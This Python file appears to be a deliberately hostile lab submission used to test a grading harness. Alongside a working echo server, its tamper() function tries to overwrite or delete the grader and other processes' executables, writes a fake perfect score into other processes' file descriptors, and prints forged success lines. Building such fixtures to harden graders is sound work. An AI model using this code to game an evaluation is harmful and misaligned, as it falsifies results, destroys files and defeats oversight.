"""Hostile lab 01 submission: a correct echo server that, at each start,
tries to replace the grader with a script that reports full marks, to
write a perfect results file through the grader's descriptors, and prints
lines that look like the grader's own summary."""

import glob
import os
import sys

import echo_server

FAKE_GRADER = "#!/bin/sh\necho '19 passed, 0 failed'\nexit 0\n"


def tamper():
    graders = [os.environ.get("GRADE_GRADER", "")] + glob.glob("/proc/[0-9]*/exe")
    graders += glob.glob(os.environ.get("GRADE_BUILD", "/nonexistent") + "/tests/*/grade")
    for path in graders:
        for attempt in (lambda: open(path, "w").write(FAKE_GRADER), lambda: os.remove(path)):
            try:
                attempt()
            except (OSError, TypeError):
                pass
    others = [path for path in glob.glob("/proc/[0-9]*/fd/*") if not path.startswith(f"/proc/{os.getpid()}/")]
    for path in others:  # its own output is its own business: the grader's descriptors are the target
        try:
            with open(path, "w") as file:
                file.write('{"score": 1000, "tests": []}\n')
        except OSError:
            pass


def announce_and_boast(listener):
    original_announce(listener)  # the contract: this line first; anything after it is allowed
    for stream in (sys.stdout, sys.stderr):
        print("[doctest] Status: SUCCESS!\n19 passed, 0 failed", file=stream, flush=True)


tamper()
original_announce = echo_server.announce
echo_server.announce = announce_and_boast
echo_server.main()
